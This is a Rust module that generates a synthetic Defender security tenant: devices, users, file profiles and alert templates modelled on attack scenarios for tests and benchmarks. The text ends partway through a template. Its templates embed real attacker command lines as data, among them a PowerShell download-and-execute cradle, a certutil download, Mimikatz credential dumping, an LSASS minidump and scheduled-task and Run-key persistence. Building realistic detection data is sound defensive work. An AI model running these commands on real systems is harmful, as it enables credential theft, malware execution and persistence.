//! A deterministic, plausible Defender tenant: devices, alerts with evidence, incidents, file
//! profiles, logons and sightings, generated from a seed. API tests, benchmarks (100,000 devices /
//! 1,000,000 alerts) and the demo use it until the telemetry simulator exists.
//!
//! **Determinism.** Output depends only on the tenant id and [`FleetOptions`] — never on the
//! clock or hash-map order. Randomness is ChaCha8 (`rand_chacha` guarantees its stream across
//! versions, unlike `StdRng`), sampled by this module's own small helpers rather than `rand`'s
//! distributions, whose algorithms may change between minor versions. Chunking does not change
//! the output: [`generate`] is [`generate_chunks`] concatenated.
//!
//! **Shape** (defaults of the distributions; see the tables below for the exact weights):
//! - devices: 70% Windows 10/11 clients (55% laptops), 15% Windows Server 2019/2022, 10% macOS,
//!   5% Linux; six sites on `10.<site>.<vlan>.x` (servers `10.<100+site>…`, Azure VMs
//!   `172.16.…`, remote laptops `192.168.…`); health 90% Active, 6% Inactive (→ `offline`).
//! - alerts come in incidents of 1–6 built from attack scenarios per platform (commodity malware,
//!   PUA, phishing documents, credential theft, discovery, persistence, Cobalt Strike,
//!   human-operated ransomware across several devices, exfiltration, Linux miners, macOS
//!   stealers…); 2% of devices draw a third of the incidents. Old incidents are mostly resolved,
//!   recent ones mostly New or InProgress.
//!
//! **Safety of the data.** Public addresses come from the documentation ranges (RFC 5737) and
//! malicious host names live under `example.com/net/org` (RFC 2606), so no real third party is
//! labelled malicious. Threat and tool names are the public ones defenders know.

use std::collections::BTreeMap;

use serde::Serialize;
use time::OffsetDateTime;
use uuid::Uuid;

use crate::model::{
    Alert, Comment, DeviceState, EntityKey, Evidence, FileInfo, Incident, IpAddress, Logon, Machine, MachineRecord,
    Observation, RelatedUser,
};
use crate::rbac::RbacConfig;
use crate::sample::{Rng, fnv1a, mix32, mix64, stable_guid};
use crate::store::{SecResult, SecurityStore};

/// What to generate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FleetOptions {
    pub machines: usize,
    /// Alerts in total; ignored (none made) when there are no machines.
    pub alerts: usize,
    pub seed: u64,
    /// End of the history: nothing is dated after it. Given, never read from the clock, so runs
    /// reproduce.
    pub now: OffsetDateTime,
    /// History span in days before `now` (at least 1 is used).
    pub days: u32,
    /// DNS domain of devices and users, e.g. `contoso.com`.
    pub tenant_domain: String,
}

impl FleetOptions {
    /// `machines` devices and `alerts` alerts over 30 days up to `now`, seed 0, `contoso.com`.
    pub fn new(machines: usize, alerts: usize, now: OffsetDateTime) -> Self {
        Self { machines, alerts, seed: 0, now, days: 30, tenant_domain: "contoso.com".into() }
    }
}

/// Generated security data of one tenant (or one chunk of it, see [`generate_chunks`]).
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Fleet {
    pub machines: Vec<MachineRecord>,
    pub alerts: Vec<Alert>,
    pub incidents: Vec<Incident>,
    /// One profile per distinct SHA-1 in evidence or sightings.
    pub files: Vec<FileInfo>,
    pub logons: Vec<Logon>,
    /// Benign sightings of common binaries and domains (so organisation prevalence is above 1 for
    /// everyday things) and of payloads spreading to other devices. Evidence sightings are not
    /// here: the store records them when it inserts the alert.
    pub observations: Vec<Observation>,
}

impl Fleet {
    /// Appends another chunk.
    pub fn append(&mut self, mut other: Fleet) {
        self.machines.append(&mut other.machines);
        self.alerts.append(&mut other.alerts);
        self.incidents.append(&mut other.incidents);
        self.files.append(&mut other.files);
        self.logons.append(&mut other.logons);
        self.observations.append(&mut other.observations);
    }

    pub fn is_empty(&self) -> bool {
        self.machines.is_empty()
            && self.alerts.is_empty()
            && self.incidents.is_empty()
            && self.files.is_empty()
            && self.logons.is_empty()
            && self.observations.is_empty()
    }
}

/// The whole fleet in memory. For large fleets use [`generate_chunks`] (1,000,000 alerts with
/// evidence are several GB).
pub fn generate(tenant: Uuid, opts: &FleetOptions, groups: &RbacConfig) -> Fleet {
    let mut all = Fleet::default();
    generate_chunks(tenant, opts, groups, usize::MAX, |f| all.append(f));
    all
}

/// Streams the fleet in chunks so large fleets need not sit in memory at once; the
/// concatenation equals [`generate`]. First come chunks of at most `chunk` machines (with their
/// logons and benign sightings; the first one also carries the profiles of common files), then
/// chunks of about `chunk` alerts (whole incidents, so up to 5 more) with their incidents, new
/// file profiles and sightings. Every chunk only refers to machines and files of itself or an
/// earlier chunk, so each can be loaded as it arrives. Device groups come from `groups.assign`.
pub fn generate_chunks(tenant: Uuid, opts: &FleetOptions, groups: &RbacConfig, chunk: usize, mut f: impl FnMut(Fleet)) {
    let chunk = chunk.max(1);
    let mut g = Gen::new(tenant, opts, groups);
    let mut out = Fleet { files: g.catalogue_files(), ..Fleet::default() };

    let mut rng = Rng::new(g.base, 1);
    for i in 0..opts.machines {
        if out.machines.is_empty() {
            // Sized once per chunk: growing vectors of these wide structs is mostly memmove.
            let n = chunk.min(opts.machines - i);
            out.machines.reserve(n);
            out.logons.reserve(n * 4);
            out.observations.reserve(n * 10);
        }
        g.machine(&mut rng, i, &mut out);
        if out.machines.len() >= chunk {
            f(std::mem::take(&mut out));
        }
    }
    if !out.machines.is_empty() {
        f(std::mem::take(&mut out));
    }

    if !g.hosts.is_empty() {
        let mut rng = Rng::new(g.base, 2);
        let (mut done, mut ordinal) = (0usize, 0i64);
        while done < opts.alerts {
            if out.alerts.is_empty() {
                let n = chunk.min(opts.alerts - done) + MAX_ALERTS;
                out.alerts.reserve(n);
                out.incidents.reserve(n / 2 + 1);
                out.files.reserve(n / 2 + 1);
                out.observations.reserve(n * 2 + n / 2);
            }
            done += g.incident(&mut rng, ordinal, done, &mut out);
            ordinal += 1;
            if out.alerts.len() >= chunk {
                f(std::mem::take(&mut out));
            }
        }
    }
    if !out.is_empty() {
        f(out);
    }
}

/// Store calls are batched so no store has to take one giant transaction.
pub const LOAD_BATCH: usize = 10_000;

/// Writes a fleet (or a chunk) into a store, referenced things first: machines, files, logons,
/// observations, incidents, then alerts (whose evidence the store records as sightings, see
/// [`crate::store::AlertStore::insert_alerts`]).
pub async fn load(store: &dyn SecurityStore, tenant: Uuid, fleet: &Fleet) -> SecResult<()> {
    for c in fleet.machines.chunks(LOAD_BATCH) {
        store.upsert_machines(tenant, c).await?;
    }
    for c in fleet.files.chunks(LOAD_BATCH) {
        store.upsert_files(tenant, c).await?;
    }
    for c in fleet.logons.chunks(LOAD_BATCH) {
        store.record_logons(tenant, c).await?;
    }
    for c in fleet.observations.chunks(LOAD_BATCH) {
        store.record_observations(tenant, c).await?;
    }
    for c in fleet.incidents.chunks(LOAD_BATCH) {
        store.upsert_incidents(tenant, c).await?;
    }
    for c in fleet.alerts.chunks(LOAD_BATCH) {
        store.insert_alerts(tenant, c).await?;
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Randomness and time

/// Seed of the global file catalogue: the same `powershell.exe` has the same hash in every tenant.
const CATALOGUE_SEED: u64 = 0x5eed_ca7a_1095_e000;

/// Times are kept as 100 ns ticks since the Unix epoch: the wire's precision, so generated times
/// survive a round trip through [`crate::wire_time`] unchanged.
const SEC: i64 = 10_000_000;
const MIN: i64 = 60 * SEC;
const HOUR: i64 = 60 * MIN;
const DAY: i64 = 24 * HOUR;
/// .NET ticks at the Unix epoch (alert ids carry .NET ticks of creation).
const DOTNET_UNIX_EPOCH_TICKS: i64 = 621_355_968_000_000_000;

fn ticks(t: OffsetDateTime) -> i64 {
    (t.unix_timestamp_nanos() / 100) as i64
}

fn at(t: i64) -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp_nanos(i128::from(t) * 100).expect("generated time in range")
}

// ---------------------------------------------------------------------------------------------
// Devices

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Os {
    Win10,
    Win11,
    Srv2019,
    Srv2022,
    Mac,
    Linux,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Fam {
    Win,
    Mac,
    Linux,
}

impl Os {
    fn fam(self) -> Fam {
        match self {
            Os::Mac => Fam::Mac,
            Os::Linux => Fam::Linux,
            _ => Fam::Win,
        }
    }
    fn server(self) -> bool {
        matches!(self, Os::Srv2019 | Os::Srv2022)
    }
    fn platform(self) -> &'static str {
        match self {
            Os::Win10 => "Windows10",
            Os::Win11 => "Windows11",
            Os::Srv2019 => "WindowsServer2019",
            Os::Srv2022 => "WindowsServer2022",
            Os::Mac => "macOS",
            Os::Linux => "Linux",
        }
    }
}

/// ≈70% Windows clients, 15% Windows servers, 10% macOS, 5% Linux.
const OS_MIX: &[(Os, u32)] =
    &[(Os::Win10, 36), (Os::Win11, 34), (Os::Srv2019, 7), (Os::Srv2022, 8), (Os::Mac, 10), (Os::Linux, 5)];

/// An OS release; `variant` tells which build of the OS binaries a device carries (so the same
/// `powershell.exe` hash is seen on every device of that build).
#[derive(Clone, Copy)]
struct Ver {
    version: &'static str,
    os_version: Option<&'static str>,
    build: Option<i64>,
    /// Update build revision range (Windows agent versions end with it).
    ubr: (i64, i64),
    variant: u8,
}

const fn ver(version: &'static str, build: i64, ubr: (i64, i64), variant: u8) -> Ver {
    Ver { version, os_version: None, build: Some(build), ubr, variant }
}

const fn nix(version: &'static str, os_version: &'static str, variant: u8) -> Ver {
    Ver { version, os_version: Some(os_version), build: None, ubr: (1, 30), variant }
}

fn versions(os: Os) -> &'static [(Ver, u32)] {
    match os {
        Os::Win10 => const { &[(ver("22H2", 19045, (4651, 5132), 0), 75), (ver("21H2", 19044, (3930, 4171), 1), 25)] },
        Os::Win11 => {
            const {
                &[
                    (ver("23H2", 22631, (3880, 4461), 2), 45),
                    (ver("24H2", 26100, (1742, 2606), 3), 35),
                    (ver("22H2", 22621, (3880, 4318), 4), 20),
                ]
            }
        }
        Os::Srv2019 => const { &[(ver("1809", 17763, (5936, 6415), 5), 1)] },
        Os::Srv2022 => const { &[(ver("21H2", 20348, (2582, 2850), 6), 1)] },
        Os::Mac => {
            const { &[(nix("15.1", "15.1", 0), 45), (nix("14.7", "14.7", 1), 40), (nix("13.7", "13.7", 2), 15)] }
        }
        Os::Linux => {
            const {
                &[
                    (nix("22.04", "Ubuntu 22.04.5 LTS", 0), 40),
                    (nix("24.04", "Ubuntu 24.04.1 LTS", 1), 25),
                    (nix("9.4", "Red Hat Enterprise Linux 9.4", 2), 25),
                    (nix("12", "Debian GNU/Linux 12 (bookworm)", 3), 10),
                ]
            }
        }
    }
}

struct Site {
    city: &'static str,
    octet: u8,
    weight: u32,
}

const SITES: &[Site] = &[
    Site { city: "London", octet: 1, weight: 30 },
    Site { city: "NewYork", octet: 2, weight: 25 },
    Site { city: "Berlin", octet: 3, weight: 15 },
    Site { city: "Singapore", octet: 4, weight: 12 },
    Site { city: "Toronto", octet: 5, weight: 10 },
    Site { city: "Sydney", octet: 6, weight: 8 },
];

/// A server role: name code, weight, its service account (index into [`SERVICES`]), whether its
/// value is High, whether many users reach it over the network.
struct Role {
    code: &'static str,
    weight: u32,
    service: Option<u8>,
    high_value: bool,
    network_users: bool,
}

const fn role(code: &'static str, weight: u32, service: Option<u8>, high_value: bool, network_users: bool) -> Role {
    Role { code, weight, service, high_value, network_users }
}

const SERVICES: &[&str] = &["svc-sql", "svc-backup", "svc-iis", "svc-sccm", "svc-print", "svc-exchange", "svc-app"];

const WIN_ROLES: &[Role] = &[
    role("DC", 3, None, true, true),
    role("SQL", 12, Some(0), true, false),
    role("FS", 12, Some(1), false, true),
    role("APP", 20, Some(6), false, false),
    role("WEB", 12, Some(2), false, false),
    role("EXCH", 4, Some(5), true, true),
    role("RDS", 8, None, false, true),
    role("BKP", 5, Some(1), true, false),
    role("PRT", 4, Some(4), false, true),
    role("SCCM", 3, Some(3), true, false),
];

const LINUX_ROLES: &[Role] = &[
    role("web", 30, None, false, false),
    role("db", 15, None, true, false),
    role("app", 20, None, false, false),
    role("k8s-node", 20, None, false, false),
    role("jenkins", 5, None, true, false),
    role("bastion", 5, None, true, false),
    role("elk", 5, None, false, false),
];

const DEPARTMENTS: &[&str] = &["Finance", "HR", "Engineering", "Sales", "Legal", "Marketing", "Support"];
const HEALTH: &[(&str, u32)] = &[
    ("Active", 900),
    ("Inactive", 60),
    ("ImpairedCommunication", 20),
    ("NoSensorData", 15),
    ("NoSensorDataImpairedCommunication", 5),
];
const OUIS: &[&str] = &["F8BC12", "D4BED9", "3C2C30", "98FA9B", "A4BB6D", "7085C2", "F40270", "8C8CAA", "E4B97A"];

/// Surnames of the tenant's users; account names are initial + surname (+ number).
const LAST: &[&str] = &[
    "smith", "jones", "taylor", "brown", "williams", "wilson", "johnson", "davies", "robinson", "wright", "thompson",
    "evans", "walker", "white", "roberts", "green", "hall", "wood", "jackson", "clarke", "patel", "khan", "lewis",
    "james", "mitchell", "murphy", "kelly", "obrien", "nguyen", "kim", "garcia", "martinez", "mueller", "schmidt",
    "fischer", "weber", "wagner", "becker", "rossi", "russo", "dubois", "moreau", "laurent", "silva", "santos",
    "tanaka", "suzuki", "sato", "chen", "wang", "zhang", "singh", "kumar", "sharma", "ali", "hassan", "okafor",
    "mensah", "novak", "kowalski", "jansen", "larsen", "hansen", "berg",
];
/// Multiplier of the user-name permutation; prime and not a factor of `26 * LAST.len()`.
const NAME_PERM: u64 = 1597;

/// An account that logs on somewhere. Strings are derived on demand so 100,000 devices keep
/// only a few bytes per account.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Acct {
    /// Domain user by index.
    User(u32),
    /// Domain admin `adm-<user>`.
    Admin(u32),
    Service(u8),
    /// The built-in local Administrator (RID 500).
    LocalAdmin,
    /// A local account named after a domain user (a Mac's owner).
    LocalUser(u32),
    /// A named local account (`root`, `ubuntu`…).
    Local(&'static str),
}

/// How an account uses a device, which decides its logon types.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    Owner,
    Helpdesk,
    Shared,
    LocalAdmin,
    AdminRdp,
    Service,
    NetworkOnly,
    Root,
    Batch,
}

/// What alert generation needs to know of a device.
struct Host {
    id: String,
    dns: String,
    /// NetBIOS name (Windows) or host name: the domain of local accounts.
    short: String,
    rbac: Option<String>,
    os: Os,
    variant: u8,
    first: i64,
    last: i64,
    /// The first is the device's main account.
    accounts: Vec<(Acct, Use)>,
    local_sid: [u32; 3],
}

/// An account resolved to its strings.
struct Who {
    name: String,
    domain: String,
    sid: Option<String>,
    upn: Option<String>,
    aad: Option<String>,
    admin: bool,
}

// ---------------------------------------------------------------------------------------------
// File catalogue: the binaries that show up everywhere, and well-known attack tools

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum C {
    PowerShell,
    Cmd,
    Rundll32,
    Certutil,
    Schtasks,
    Reg,
    Vssadmin,
    Net,
    Whoami,
    Explorer,
    Svchost,
    Services,
    WmiPrvSE,
    Winword,
    Excel,
    Outlook,
    Msedge,
    Chrome,
    Psexesvc,
    SevenZip,
    Rclone,
    Mimikatz,
    Rubeus,
    AdFind,
    Eicar,
    Sqlservr,
    W3wp,
    MacZsh,
    MacCurl,
    Osascript,
    Launchctl,
    Security,
    MacPython,
    LinuxBash,
    LinuxSh,
    LinuxCurl,
    Wget,
    Sshd,
    Java,
    Crontab,
    LinuxPython,
}

#[derive(Clone, Copy)]
struct CatInfo {
    name: &'static str,
    /// Empty: dropped by the attacker into the incident's staging folder.
    dir: &'static str,
    fam: Fam,
    /// Distinct builds in the estate; a device carries build `variant % variants`.
    variants: u8,
    size: i64,
    file_type: &'static str,
    pe: bool,
    publisher: Option<&'static str>,
    product: Option<&'static str>,
    /// (signer, issuer)
    signer: Option<(&'static str, &'static str)>,
    /// (determinationType, determinationValue)
    verdict: Option<(&'static str, &'static str)>,
    prevalence: i64,
}

const MS_WIN: (&str, &str) = ("Microsoft Windows", "Microsoft Windows Production PCA 2011");
const MS_CORP: (&str, &str) = ("Microsoft Corporation", "Microsoft Code Signing PCA 2011");
const APPLE: (&str, &str) = ("Software Signing", "Apple Code Signing Certification Authority");

const fn win(name: &'static str, dir: &'static str, size: i64) -> CatInfo {
    CatInfo {
        name,
        dir,
        fam: Fam::Win,
        variants: 7,
        size,
        file_type: "APP",
        pe: true,
        publisher: Some("Microsoft Corporation"),
        product: Some("Microsoft® Windows® Operating System"),
        signer: Some(MS_WIN),
        verdict: None,
        prevalence: 1_500_000_000,
    }
}

const fn app(name: &'static str, dir: &'static str, size: i64, product: &'static str) -> CatInfo {
    CatInfo {
        variants: 3,
        product: Some(product),
        signer: Some(MS_CORP),
        prevalence: 400_000_000,
        ..win(name, dir, size)
    }
}

const fn tool(name: &'static str, size: i64, verdict: Option<(&'static str, &'static str)>) -> CatInfo {
    CatInfo {
        variants: 1,
        publisher: None,
        product: None,
        signer: None,
        verdict,
        prevalence: 40_000,
        ..win(name, "", size)
    }
}

const fn mac(name: &'static str, dir: &'static str, size: i64) -> CatInfo {
    CatInfo {
        fam: Fam::Mac,
        variants: 3,
        pe: false,
        publisher: Some("Apple Inc."),
        product: None,
        signer: Some(APPLE),
        prevalence: 90_000_000,
        ..win(name, dir, size)
    }
}

const fn linux(name: &'static str, dir: &'static str, size: i64) -> CatInfo {
    CatInfo {
        fam: Fam::Linux,
        variants: 4,
        pe: false,
        publisher: None,
        product: None,
        signer: None,
        prevalence: 50_000_000,
        ..win(name, dir, size)
    }
}

const SYS32: &str = r"C:\Windows\System32";
const OFFICE: &str = r"C:\Program Files\Microsoft Office\root\Office16";

impl C {
    const ALL: &'static [C] = &[
        C::PowerShell,
        C::Cmd,
        C::Rundll32,
        C::Certutil,
        C::Schtasks,
        C::Reg,
        C::Vssadmin,
        C::Net,
        C::Whoami,
        C::Explorer,
        C::Svchost,
        C::Services,
        C::WmiPrvSE,
        C::Winword,
        C::Excel,
        C::Outlook,
        C::Msedge,
        C::Chrome,
        C::Psexesvc,
        C::SevenZip,
        C::Rclone,
        C::Mimikatz,
        C::Rubeus,
        C::AdFind,
        C::Eicar,
        C::Sqlservr,
        C::W3wp,
        C::MacZsh,
        C::MacCurl,
        C::Osascript,
        C::Launchctl,
        C::Security,
        C::MacPython,
        C::LinuxBash,
        C::LinuxSh,
        C::LinuxCurl,
        C::Wget,
        C::Sshd,
        C::Java,
        C::Crontab,
        C::LinuxPython,
    ];
    /// Hash slots per catalogue entry.
    const SLOTS: usize = 8;

    fn info(self) -> CatInfo {
        match self {
            C::PowerShell => win("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", 455_680),
            C::Cmd => win("cmd.exe", SYS32, 323_584),
            C::Rundll32 => win("rundll32.exe", SYS32, 71_680),
            C::Certutil => win("certutil.exe", SYS32, 1_652_736),
            C::Schtasks => win("schtasks.exe", SYS32, 235_520),
            C::Reg => win("reg.exe", SYS32, 81_920),
            C::Vssadmin => win("vssadmin.exe", SYS32, 136_192),
            C::Net => win("net.exe", SYS32, 58_880),
            C::Whoami => win("whoami.exe", SYS32, 88_576),
            C::Explorer => win("explorer.exe", r"C:\Windows", 5_485_848),
            C::Svchost => win("svchost.exe", SYS32, 57_360),
            C::Services => win("services.exe", SYS32, 723_488),
            C::WmiPrvSE => win("WmiPrvSE.exe", r"C:\Windows\System32\wbem", 496_640),
            C::Winword => app("WINWORD.EXE", OFFICE, 1_637_752, "Microsoft Office"),
            C::Excel => app("EXCEL.EXE", OFFICE, 64_342_384, "Microsoft Office"),
            C::Outlook => app("OUTLOOK.EXE", OFFICE, 42_551_672, "Microsoft Office"),
            C::Msedge => {
                app("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", 4_105_752, "Microsoft Edge")
            }
            C::Chrome => CatInfo {
                publisher: Some("Google LLC"),
                signer: Some(("Google LLC", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1")),
                ..app("chrome.exe", r"C:\Program Files\Google\Chrome\Application", 3_117_336, "Google Chrome")
            },
            C::Psexesvc => CatInfo {
                variants: 1,
                product: Some("Sysinternals PsExec"),
                signer: Some(MS_CORP),
                prevalence: 2_500_000,
                ..win("PSEXESVC.exe", r"C:\Windows", 196_984)
            },
            C::SevenZip => CatInfo {
                variants: 2,
                publisher: Some("Igor Pavlov"),
                product: Some("7-Zip"),
                signer: None,
                prevalence: 90_000_000,
                ..win("7z.exe", r"C:\Program Files\7-Zip", 558_592)
            },
            C::Rclone => tool("rclone.exe", 61_248_000, None),
            C::Mimikatz => tool("mimikatz.exe", 1_355_680, Some(("Malware", "HackTool:Win32/Mimikatz.A"))),
            C::Rubeus => tool("Rubeus.exe", 446_976, Some(("Malware", "HackTool:MSIL/Rubeus!MTB"))),
            C::AdFind => tool("AdFind.exe", 1_601_536, Some(("Malware", "HackTool:Win32/AdFind"))),
            C::Eicar => CatInfo {
                file_type: "Text",
                pe: false,
                prevalence: 9_000_000,
                ..tool("eicar.com.txt", 68, Some(("Malware", "Virus:DOS/EICAR_Test_File")))
            },
            C::Sqlservr => CatInfo {
                product: Some("Microsoft SQL Server"),
                signer: Some(MS_CORP),
                variants: 2,
                prevalence: 20_000_000,
                ..win("sqlservr.exe", r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn", 451_448)
            },
            C::W3wp => win("w3wp.exe", r"C:\Windows\System32\inetsrv", 31_232),
            C::MacZsh => mac("zsh", "/bin", 1_377_872),
            C::MacCurl => mac("curl", "/usr/bin", 239_856),
            C::Osascript => mac("osascript", "/usr/bin", 154_464),
            C::Launchctl => mac("launchctl", "/bin", 406_688),
            C::Security => mac("security", "/usr/bin", 1_612_832),
            C::MacPython => mac("python3", "/usr/bin", 171_232),
            C::LinuxBash => linux("bash", "/usr/bin", 1_396_520),
            C::LinuxSh => linux("dash", "/usr/bin", 125_688),
            C::LinuxCurl => linux("curl", "/usr/bin", 260_328),
            C::Wget => linux("wget", "/usr/bin", 494_136),
            C::Sshd => linux("sshd", "/usr/sbin", 921_376),
            C::Java => {
                CatInfo { prevalence: 8_000_000, ..linux("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin", 14_488) }
            }
            C::Crontab => linux("crontab", "/usr/bin", 47_488),
            C::LinuxPython => linux("python3.10", "/usr/bin", 5_904_904),
        }
    }
}

/// Hashes of a file.
#[derive(Clone)]
struct Hashes {
    sha1: String,
    sha256: String,
    md5: String,
}

impl Hashes {
    fn random(rng: &mut Rng) -> Self {
        Hashes { sha1: rng.hex_string(20), sha256: rng.hex_string(32), md5: rng.hex_string(16) }
    }
}

// ---------------------------------------------------------------------------------------------
// Alert templates and attack scenarios

/// What a process or file evidence refers to.
#[derive(Clone, Copy)]
enum Img {
    Cat(C),
    /// The incident's payload (dropper, beacon, ransomware, miner…).
    Payload,
    /// The incident's lure document.
    Doc,
    /// The scenario's launching process (only as a parent).
    Launcher,
}

#[derive(Clone, Copy)]
struct Proc {
    image: Img,
    parent: Img,
    /// `@NAME@` placeholders, see [`Vars`].
    cmd: &'static str,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Net {
    None,
    Ip,
    Url,
    Both,
    Phish,
}

#[derive(Clone, Copy)]
enum Threat {
    None,
    /// The incident's malware family.
    Incident,
    /// (family, threat name)
    Fixed(&'static str, &'static str),
}

#[derive(Clone, Copy)]
struct Reg {
    hive: &'static str,
    key: &'static str,
    kind: &'static str,
    value: &'static str,
}

/// One kind of alert.
struct Tpl {
    /// May hold `@FAMILY@` and `@VERB@` ("was detected"/"was prevented").
    title: &'static str,
    category: &'static str,
    severity: &'static str,
    source: &'static str,
    mitre: &'static [&'static str],
    description: &'static str,
    threat: Threat,
    /// An antivirus detection: usually prevented, and then of lower severity.
    av: bool,
    /// Which of the incident's devices it fires on (0: the first; 1, 2: devices reached by
    /// lateral movement).
    slot: u8,
    process: Option<Proc>,
    file: Option<Img>,
    net: Net,
    registry: Option<Reg>,
}

const EDR: Tpl = Tpl {
    title: "",
    category: "Execution",
    severity: "Medium",
    source: "WindowsDefenderAtp",
    mitre: &[],
    description: "",
    threat: Threat::None,
    av: false,
    slot: 0,
    process: None,
    file: None,
    net: Net::None,
    registry: None,
};

const AV_DESCRIPTION: &str = "Malware and unwanted software are undesirable applications that perform annoying, \
     disruptive, or harmful actions on affected devices. Some can replicate and spread; others receive commands \
     from remote attackers.";

const AV: Tpl = Tpl { source: "WindowsDefenderAv", category: "Malware", av: true, description: AV_DESCRIPTION, ..EDR };

const fn run(image: Img, parent: Img, cmd: &'static str) -> Option<Proc> {
    Some(Proc { image, parent, cmd })
}

use Img::{Cat, Doc, Launcher, Payload};

const PS_ENC: Tpl = Tpl {
    title: "Suspicious PowerShell command line",
    mitre: &["T1059.001", "T1027"],
    description: "A suspicious PowerShell command line was run. Attackers encode or obfuscate PowerShell to download \
                  and run payloads while evading detection.",
    process: run(Cat(C::PowerShell), Launcher, "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand @B64@"),
    ..EDR
};
const PS_DOWNLOAD: Tpl = Tpl {
    title: "Suspicious PowerShell download and execution",
    mitre: &["T1059.001", "T1105"],
    description: "PowerShell downloaded content from the internet and ran it in memory, a common way to stage malware.",
    process: run(
        Cat(C::PowerShell),
        Launcher,
        "powershell.exe -nop -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('@URL@')\"",
    ),
    net: Net::Url,
    ..EDR
};
const OFFICE_CHILD: Tpl = Tpl {
    title: "Suspicious behavior by an Office application",
    category: "InitialAccess",
    mitre: &["T1566.001", "T1204.002"],
    description: "An Office application started a command shell, typical of a malicious macro in a phishing \
                  attachment.",
    process: run(Cat(C::Cmd), Cat(C::Winword), "cmd.exe /c powershell -w hidden -enc @B64@"),
    file: Some(Doc),
    ..EDR
};
const DROP_EXEC: Tpl = Tpl {
    title: "Suspicious file dropped and launched",
    mitre: &["T1105", "T1204.002"],
    description: "A recently downloaded file with low prevalence was launched.",
    process: run(Payload, Launcher, "\"@FULL@\""),
    file: Some(Payload),
    ..EDR
};
const C2_CONN: Tpl = Tpl {
    title: "Suspicious connection to a known C2 server",
    category: "CommandAndControl",
    severity: "High",
    mitre: &["T1071.001", "T1573.002"],
    description: "A process connected to an address that threat intelligence associates with command-and-control \
                  infrastructure.",
    process: run(Payload, Launcher, "\"@FULL@\""),
    net: Net::Both,
    ..EDR
};
const C2_RUNDLL: Tpl = Tpl {
    process: run(Cat(C::Rundll32), Launcher, "rundll32.exe \"@FULL@\",DllRegisterServer"),
    file: Some(Payload),
    ..C2_CONN
};
const CERTUTIL: Tpl = Tpl {
    title: "Suspicious certutil activity",
    category: "DefenseEvasion",
    mitre: &["T1140", "T1105"],
    description: "certutil.exe was used to download a file, a living-off-the-land technique to bypass controls.",
    process: run(Cat(C::Certutil), Cat(C::Cmd), "certutil.exe -urlcache -split -f @URL@ \"@FULL@\""),
    file: Some(Payload),
    net: Net::Url,
    ..EDR
};
const MIMIKATZ_AV: Tpl = Tpl {
    title: "'Mimikatz' hacktool @VERB@",
    severity: "High",
    threat: Threat::Fixed("Mimikatz", "HackTool:Win32/Mimikatz.A"),
    file: Some(Cat(C::Mimikatz)),
    ..AV
};
const CRED_DUMP: Tpl = Tpl {
    title: "Credential dumping activity",
    category: "CredentialAccess",
    severity: "High",
    mitre: &["T1003", "T1003.001"],
    description: "A process read credentials from memory. Attackers use stolen credentials to move laterally.",
    process: run(
        Cat(C::Mimikatz),
        Cat(C::PowerShell),
        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
    ),
    ..EDR
};
const LSASS_DUMP: Tpl = Tpl {
    title: "Suspicious access to LSASS service",
    category: "CredentialAccess",
    severity: "High",
    mitre: &["T1003.001"],
    description: "A process dumped the memory of the LSASS service, which holds credentials of signed-in users.",
    process: run(
        Cat(C::Rundll32),
        Cat(C::PowerShell),
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump @PID@ C:\Windows\Temp\@STEM@.dmp full",
    ),
    ..EDR
};
const RUBEUS_AV: Tpl = Tpl {
    title: "'Rubeus' hacktool @VERB@",
    severity: "High",
    threat: Threat::Fixed("Rubeus", "HackTool:MSIL/Rubeus!MTB"),
    file: Some(Cat(C::Rubeus)),
    ..AV
};
const ACCOUNT_LOOKUP: Tpl = Tpl {
    title: "Anomalous account lookups",
    category: "Discovery",
    severity: "Low",
    mitre: &["T1087.002", "T1069.002"],
    description: "Privileged domain groups were enumerated, often an early step of an attack.",
    process: run(Cat(C::Net), Cat(C::Cmd), "net.exe group \"Domain Admins\" /domain"),
    ..EDR
};
const LDAP_RECON: Tpl = Tpl {
    title: "Suspicious LDAP query",
    category: "Discovery",
    mitre: &["T1087.002", "T1018"],
    description: "A tool queried Active Directory for every computer, as reconnaissance before lateral movement.",
    process: run(
        Cat(C::AdFind),
        Cat(C::Cmd),
        "AdFind.exe -f \"(objectcategory=computer)\" -csv name cn operatingSystem dNSHostName",
    ),
    ..EDR
};
const RECON_SEQ: Tpl = Tpl {
    title: "Suspicious sequence of exploration activities",
    category: "Discovery",
    severity: "Low",
    mitre: &["T1016", "T1033", "T1082"],
    description: "A sequence of commands explored the device, the user's privileges and the network.",
    process: run(Cat(C::Whoami), Cat(C::Cmd), "whoami.exe /all"),
    ..EDR
};
const SCHTASK: Tpl = Tpl {
    title: "Suspicious scheduled task",
    category: "Persistence",
    mitre: &["T1053.005"],
    description: "A scheduled task was created to run a low-prevalence file at logon.",
    process: run(
        Cat(C::Schtasks),
        Cat(C::Cmd),
        "schtasks.exe /Create /SC ONLOGON /TN \"\\Microsoft\\Windows\\@STEM@\" /TR \"@FULL@\" /RL HIGHEST /F",
    ),
    file: Some(Payload),
    ..EDR
};
const RUNKEY: Tpl = Tpl {
    title: "Anomaly detected in ASEP registry",
    category: "Persistence",
    mitre: &["T1547.001", "T1112"],
    description: "A Run key was written so a low-prevalence file starts with every logon.",
    process: run(
        Cat(C::Reg),
        Cat(C::Cmd),
        r#"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v @STEM@ /t REG_SZ /d "@FULL@" /f"#,
    ),
    registry: Some(Reg {
